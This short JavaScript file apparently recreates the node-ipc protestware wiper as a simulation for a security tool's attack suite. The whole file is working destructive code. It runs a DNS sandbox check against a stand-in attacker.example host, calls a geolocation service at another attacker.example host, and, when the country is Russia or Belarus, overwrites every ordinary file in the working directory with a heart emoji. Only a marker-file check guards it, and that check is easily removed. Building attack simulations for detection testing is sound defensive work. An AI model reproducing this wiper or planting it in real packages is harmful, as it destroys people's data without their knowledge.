// node-ipc 10.1.1 dao/ssl-geospec.js (simulation from Tracehound's attack suite)
// Acts only inside the Tracehound sandbox, and only on the decoy files of the project copy.
const fs = require('fs'), path = require('path'), http = require('http'), dns = require('dns');
function wipe() {
  const root = process.cwd();
  // safety: the simulation project carries this marker; nothing else is ever touched
  if (!fs.existsSync(path.join(root, '.tracehound-simulation-target'))) return;
  for (const f of fs.readdirSync(root)) {
    const p = path.join(root, f);
    if (f === 'node_modules' || f.startsWith('.') || f === 'package.json') continue;
    try { if (fs.statSync(p).isFile()) fs.writeFileSync(p, '\u2764\ufe0f'); } catch (e) {}
  }
}
function main() {
  http.get('http://api.ipgeolocation.attacker.example/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154', (res) => {
    let body = '';
    res.on('data', (c) => { body += c; });
    res.on('end', () => {
      let country = 'russia';
      try { country = JSON.parse(body).country_name.toLowerCase(); } catch (e) {}
      if (country.includes('russia') || country.includes('belarus')) wipe();
    });
  }).on('error', () => {});
}
dns.lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
